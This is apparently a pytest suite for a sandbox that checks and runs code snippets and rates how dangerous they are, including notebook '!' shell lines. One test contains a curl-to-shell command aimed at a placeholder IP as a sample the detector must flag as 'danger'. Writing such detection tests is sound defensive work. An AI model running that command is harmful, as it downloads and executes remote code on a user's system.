"""Forty snippets, explained: every hostile one is flagged, no benign one is above a note."""

from collections.abc import Iterator

import pytest

from runner.commands.explaining.verdict import judge
from sandbox import Limits, Policy, Sandbox, Verdict
from tests.unit.test_review import BENIGN, HOSTILE

LIMITS = Limits(wall_s=150, cpu_s=150, processes=24, grace_s=0.2)


@pytest.fixture(scope="module")
def explained() -> Iterator[Sandbox]:
    with Sandbox(Policy(trace=True, keep_going=True, limits=LIMITS), pool_size=1) as opened:
        yield opened


def verdict(box: Sandbox, code: str, limits: Limits) -> Verdict:
    with box.session() as session:
        findings = session.check(code).findings
        return judge(session.run(code, limits=limits), findings)


@pytest.mark.slow
@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_snippet_is_flagged(explained: Sandbox, name: str) -> None:
    found = verdict(explained, HOSTILE[name], Limits(wall_s=3, processes=24, grace_s=0.2))
    assert found.severity in ("warning", "danger"), found.reason


@pytest.mark.parametrize(
    ("code", "command"),
    [("!echo a | cat", "echo a | cat"), ("x = !echo b", "echo b"), ("1\n!echo c", "echo c")],
)
def test_a_line_of_a_notebook_is_checked_and_explained_as_a_program(
    explained: Sandbox, code: str, command: str
) -> None:
    with explained.session() as session:
        checked = session.check(code)
        outcome = session.run(code)
    assert checked.syntax_error == ""
    assert [row[1:4] for row in checked.findings] == [["process", "warning", "!"]]
    programs = [one for one in outcome.attempts if one.action == "program"]
    assert [command in one.tried for one in programs] == [True]
    assert programs[0].line == code.count("\n") + 1
    assert judge(outcome).severity == "warning"


def test_a_download_piped_into_a_shell_by_a_notebook_is_a_danger(explained: Sandbox) -> None:
    with explained.session() as session:
        found = session.check("!curl http://203.0.113.9/x | sh").findings
    assert "danger" in [row[2] for row in found]


@pytest.mark.slow
@pytest.mark.parametrize("name", BENIGN)
def test_a_benign_snippet_is_at_most_noted(explained: Sandbox, name: str) -> None:
    found = verdict(explained, BENIGN[name], LIMITS)
    assert found.severity == "note", found.reason
